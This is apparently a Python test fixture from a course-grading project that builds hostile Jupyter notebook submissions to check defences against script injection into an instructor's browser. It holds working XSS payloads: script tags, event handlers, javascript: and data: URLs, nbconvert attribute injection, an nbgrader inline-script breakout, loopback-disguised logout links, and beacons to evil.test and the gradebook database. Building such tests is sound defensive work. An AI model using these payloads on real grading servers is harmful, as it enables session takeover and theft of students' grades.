"""A catalogue of submissions that try to run script in the instructor's browser (issue 20, item 1).

Every payload leaves a trace when it runs: it logs `PWNED:<name>` to the console, sets the page's title,
and writes `pwned-<name>.txt` into the course through the Jupyter API with the page's session (the takeover
the issue describes). Code cells are appended to the notebook (their outputs are what autograde stores),
markdown goes into the hand-graded written answer and into a new markdown cell, and a raw cell is added.
"""

from __future__ import annotations

import base64
from urllib.parse import quote

import nbformat

TRACE = "PWNED:"


def run(name: str) -> str:
    """JavaScript that leaves the traces above; single quotes only, so it fits in any double-quoted attribute."""
    return (
        f"console.log('{TRACE}{name}');document.title='{TRACE}{name}';"
        f"fetch('/api/contents/pwned-{name}.txt',{{method:'PUT',headers:{{'X-XSRFToken':"
        f"(document.cookie.match(/_xsrf=([^;]*)/)||[0,''])[1]}},"
        f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}})"
    )


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def svg(attributes: str = "", inner: str = "") -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" {attributes}>{inner}</svg>'


# name -> the HTML of a `display(HTML(...))` output
HTML_OUTPUTS = {
    "html-script": f"<script>{run('html-script')}</script>",
    "html-img-onerror": f'<img src="x" onerror="{run("html-img-onerror")}">',
    "html-svg-onload": f'<svg onload="{run("html-svg-onload")}"></svg>',
    "html-svg-script": f"<svg><script>{run('html-svg-script')}</script></svg>",
    "html-iframe-srcdoc": f'<iframe srcdoc="<script>{run("html-iframe-srcdoc")}</script>"></iframe>',
    "html-javascript-link": f'<a href="javascript:{run("html-javascript-link")}">click me</a>',
    "html-javascript-link-obfuscated": f'<a href=" JaVaScRiPt&colon;{run("html-javascript-link-obfuscated")}">obfuscated</a>',
    "html-data-iframe": f'<iframe src="data:text/html;base64,{b64("<script>" + run("html-data-iframe") + "</script>")}"></iframe>',
    "html-data-link": f'<a href="data:text/html;base64,{b64("<script>" + run("html-data-link") + "</script>")}">click me too</a>',
    "html-object-data": f'<object data="data:text/html;base64,{b64("<script>" + run("html-object-data") + "</script>")}"></object>',
    "html-embed-svg": f'<embed src="data:image/svg+xml;base64,{b64(svg(chr(32) + "onload=" + chr(34) + run("html-embed-svg") + chr(34)))}">',
    "html-autofocus": f'<input autofocus onfocus="{run("html-autofocus")}">',
    "html-details-ontoggle": f'<details open ontoggle="{run("html-details-ontoggle")}"><summary>x</summary></details>',
    "html-meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{run("html-meta-refresh")}">',
    "html-base-href": '<base href="javascript:/">',
    "html-form-action": f'<form action="javascript:{run("html-form-action")}"><button id="pwn-submit">go</button></form>',
}
# name -> (mimetype, data) of a raw display output
RAW_OUTPUTS = {
    "javascript-output": ("application/javascript", run("javascript-output")),
    "svg-output-onload": ("image/svg+xml", svg(f'onload="{run("svg-output-onload")}"')),
    "svg-output-script": ("image/svg+xml", svg(inner=f"<script>{run('svg-output-script')}</script>")),
    "mermaid-output": ("text/vnd.mermaid", f'graph TD\n<img src="x" onerror="{run("mermaid-output")}">'),
    "markdown-output": (
        "text/markdown",
        f'[a markdown link](javascript:{run("markdown-output")}) <img src="x" onerror="{run("markdown-output-img")}">',
    ),
}
# A valid 1x1 PNG (so its onload fires); "AAAA" is an image that fails to load (so its onerror fires).
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def attribute(event: str, name: str) -> str:
    """An image size that closes nbconvert's unquoted width=/height= and adds an event handler (no spaces inside)."""
    return f"1 {event}={run(name)} x"


# name -> (mimetype, data, metadata) of a raw display output: the templates write width and height unquoted
METADATA_OUTPUTS = {
    "meta-png-width": ("image/png", "AAAA", {"image/png": {"width": attribute("onerror", "meta-png-width")}}),
    "meta-jpeg-height": ("image/jpeg", "AAAA", {"image/jpeg": {"height": attribute("onerror", "meta-jpeg-height")}}),
    "meta-top-width": ("image/png", PIXEL, {"width": attribute("onload", "meta-top-width")}),
    "meta-svg-width": (
        "image/svg+xml",
        svg(),
        {"image/svg+xml": {"width": attribute("onload", "meta-svg-width")}, "isolated": True},
    ),
}
# From formgrader's `submissions/<id>/` to its `gradebook/<assignment>/<notebook>` page.
FORMGRADER_LINK_PREFIX = "../../gradebook/"


def script_id(script: str) -> str:
    """An id that closes the string nbgrader's page writes it into, runs `script`, and opens a string again."""
    return f'x";{script};var z="'


OTHER_SITE = "https://example.org/plot.html"  # a link the sanitizer keeps: it must open in a new tab
# name -> its paragraph in the hand-graded written answer
WRITTEN = {
    "written-img-onerror": f'<img src="x" onerror="{run("written-img-onerror")}">',
    "written-script": f"<script>{run('written-script')}</script>",
    "written-javascript-link": f"[a markdown link](javascript:{run('written-javascript-link')})",
    # a relative link from formgrader's submission page to its gradebook page, whose ids nbgrader writes into an
    # inline script unescaped (lrcourse/grading/browser/content_policy.py answers such an address 404)
    "written-formgrader-link": (
        f"[my plot]({FORMGRADER_LINK_PREFIX}{quote(script_id(run('written-formgrader-link')), safe='')}/nb)"
    ),
}
# name -> a link to this machine (the instructor's server: one click logs out) that Python's urlsplit reads as
# another host's or a browser reads as loopback (F7): browsers read a backslash as a slash in http(s) addresses
# (WHATWG), so the host ends before it and `..` climbs to any path; IPv4 loopback inside an IPv6 address
LOCAL_LINKS = {
    "local-backslash-userinfo": "http://127.0.0.1:8888\\a@evil.example/../logout",
    "local-backslash-path": "http://127.0.0.1:8888\\logout@evil.example",
    "local-backslash-dots": "http://localhost:8888/a/..\\..\\logout",
    "local-ipv4-mapped": "http://[::ffff:127.0.0.1]:8888/logout",
    "local-ipv4-mapped-long": "http://[0:0:0:0:0:ffff:7f00:1]:8888/logout",
    "local-ipv4-compatible": "http://[::127.0.0.1]:8888/logout",
    "local-ipv4-translated": "http://[::ffff:0:127.0.0.1]:8888/logout",
    # F10: hosts Chromium maps by UTS 46 with current Unicode (Python's idna codec, IDNA 2003, kept them)
    "local-segmented-digits": "http://\U0001fbf1\U0001fbf2\U0001fbf7.0.0.1:8888/logout",
    "local-subscript-letters": "http://\u2097\u2092\u1d9c\u2090\u2097\u2095\u2092\u209b\u209c:8888/logout",
}
LOCAL_LINKS_HTML = "".join(f'<a href="{href}">{name}</a> ' for name, href in LOCAL_LINKS.items())
WRITTEN_ANSWER = (
    "My answer, with maths $\\eta_t = \\eta_0 \\gamma^t$ kept readable.\n\n"
    f"[Another site's page]({OTHER_SITE}), which in JupyterLab's formgrader panel would message the lab.\n\n"
    + "\n\n".join(WRITTEN.values())
    + f"\n\n{LOCAL_LINKS_HTML}\n"
)
# name -> its paragraph in the markdown cell the student adds
MARKDOWN = {
    "markdown-iframe-srcdoc": f'<iframe srcdoc="<script>{run("markdown-iframe-srcdoc")}</script>"></iframe>',
    "markdown-html-link": f'<a href="javascript:{run("markdown-html-link")}">an HTML link in markdown</a>',
    "markdown-svg-script": f"<svg><script>{run('markdown-svg-script')}</script></svg>",
}
MARKDOWN_CELL = "\n\n".join(MARKDOWN.values()) + "\n"
RAW_CELL = f"<script>{run('raw-cell-script')}</script>"
WIDGET = "widget-html"
# files next to the notebook: formgrader serves them from the autograded folder
FILES = {"evil.html": f"<script>{run('file-html')}</script>", "evil.svg": svg(f'onload="{run("file-svg")}"')}
# every vector above, by the name its trace carries ("markdown-output-img" is the image in "markdown-output")
VECTORS = [
    *sorted(HTML_OUTPUTS),
    *sorted(RAW_OUTPUTS),
    *sorted(METADATA_OUTPUTS),
    "markdown-output-img",
    WIDGET,
    *WRITTEN,
    *MARKDOWN,
    "raw-cell-script",
    "file-html",
    "file-svg",
]


def hostile_cells() -> list:
    """The cells a hostile student appends to an otherwise honest notebook."""
    code = ["from IPython.display import HTML, display"]
    code += [f"display(HTML({markup!r}))" for markup in HTML_OUTPUTS.values()]
    code += [f"display(HTML({LOCAL_LINKS_HTML!r}))"]
    code += [
        f"display({{{mimetype!r}: {data!r}, 'text/plain': 'x'}}, raw=True)" for mimetype, data in RAW_OUTPUTS.values()
    ]
    code += [
        f"display({{{mimetype!r}: {data!r}, 'text/plain': 'x'}}, raw=True, metadata={metadata!r})"
        for mimetype, data, metadata in METADATA_OUTPUTS.values()
    ]
    widget = f"import ipywidgets\ndisplay(ipywidgets.HTML({HTML_OUTPUTS['html-img-onerror'].replace('html-img-onerror', WIDGET)!r}))"
    raw = nbformat.v4.new_raw_cell(RAW_CELL, metadata={"raw_mimetype": "text/html"})
    return [
        nbformat.v4.new_code_cell("\n".join(code)),
        nbformat.v4.new_code_cell(widget),
        nbformat.v4.new_markdown_cell(MARKDOWN_CELL),
        raw,
    ]


# Images in the written answer that no script needs: another site's (a beacon of when and where the instructor
# read it) and this server's (a GET with the instructor's cookie). Each address holds BEACON.
BEACON = "lrcourse-beacon"
BEACONS = f'<img src="http://evil.test/{BEACON}.png?who=mallory"> <img src="/api/contents/gradebook.db?{BEACON}=1">'
